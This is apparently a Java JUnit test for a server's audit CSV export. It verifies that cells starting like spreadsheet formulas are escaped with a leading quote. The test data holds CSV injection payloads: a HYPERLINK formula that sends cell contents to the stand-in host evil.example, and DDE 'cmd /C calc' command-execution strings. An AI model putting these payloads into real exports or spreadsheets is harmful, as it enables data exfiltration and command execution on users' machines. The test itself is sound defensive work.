package io.tributary.server.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.tributary.server.api.TestNode.Response;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** CSV injection through the audit export: formula-like cells reach the spreadsheet as text. */
class AuditCsvExportTest {

  @TempDir Path dataDir;

  private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
  private static final List<String> FORMULAS = List.of(HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0");

  /** RFC 4180 rows: quoted cells may hold commas, doubled quotes and line breaks. */
  static List<List<String>> parse(String csv) {
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < csv.length(); i++) {
      char c = csv.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
          cell.append('"');
          i++;
        } else if (c == '"') {
          quoted = false;
        } else {
          cell.append(c);
        }
      } else if (c == '"') {
        quoted = true;
      } else if (c == ',') {
        row.add(cell.toString());
        cell.setLength(0);
      } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
        row.add(cell.toString());
        cell.setLength(0);
        rows.add(row);
        row = new ArrayList<>();
        i++;
      } else {
        cell.append(c);
      }
    }
    return rows;
  }

  @Test
  void formula_like_reasons_and_targets_are_exported_with_a_leading_quote() throws Exception {
    try (TestNode node = TestNode.start(dataDir)) {
      String operator = node.token("olga", "operator", false);
      String pipeline = "/api/v1/environments/dev/pipeline";
      // An operator puts spreadsheet formulas in the reasons of pipeline changes.
      for (String reason : FORMULAS) {
        JsonNode current = node.get(pipeline, operator).json();
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("baseRevision", current.get("revision").asLong());
        body.put("stages", TestNode.JSON.convertValue(current.get("stages"), List.class));
        body.put("reason", reason);
        Response written = node.call("PUT", pipeline, operator, body);
        assertThat(written.status()).as("%s", written).isEqualTo(200);
      }
      // A tab or carriage return first (written straight to the trail: the API may refuse them).
      node.node.catalog().audit().append("system", "test.injected", "\t=1+1", null, null, "\r=1+1");

      Response export = node.get("/api/v1/audit/export.csv?limit=1000", TestNode.ADMIN_TOKEN);
      assertThat(export.status()).isEqualTo(200);
      assertThat(export.header("Content-Type")).startsWith("text/csv");
      assertThat(export.header("Content-Disposition")).isEqualTo("attachment; filename=\"tributary-audit.csv\"");
      List<List<String>> rows = parse(export.body());
      assertThat(rows.get(0)).containsExactly("id", "at", "actor", "action", "target", "reason", "before", "after",
          "hash");
      List<String> cells = rows.stream().skip(1).flatMap(List::stream).toList();
      assertThat(cells).isNotEmpty();
      for (String cell : cells) {
        assertThat(cell).as("no cell starts like a formula").doesNotStartWith("=").doesNotStartWith("+")
            .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
      }
      for (String formula : FORMULAS) {
        assertThat(cells).contains("'" + formula);
      }
      assertThat(cells).contains("'\t=1+1", "'\r=1+1");
      // The rows match the JSON answer with the same filters, one for one.
      assertThat(rows).hasSize(1 + node.get("/api/v1/audit?limit=1000", TestNode.ADMIN_TOKEN).json().size());
      // The JSON trail itself keeps the reasons as written: only the spreadsheet export neutralises.
      assertThat(node.get("/api/v1/audit?action=pipeline.revised", TestNode.ADMIN_TOKEN).body())
          .contains("=HYPERLINK(");
      // Filters apply, and the export needs a token like the rest of the trail.
      List<List<String>> one = parse(node.get("/api/v1/audit/export.csv?action=test.injected", TestNode.ADMIN_TOKEN)
          .body());
      assertThat(one).hasSize(2);
      assertThat(node.get("/api/v1/audit/export.csv", null).status()).isEqualTo(401);
    }
  }
}
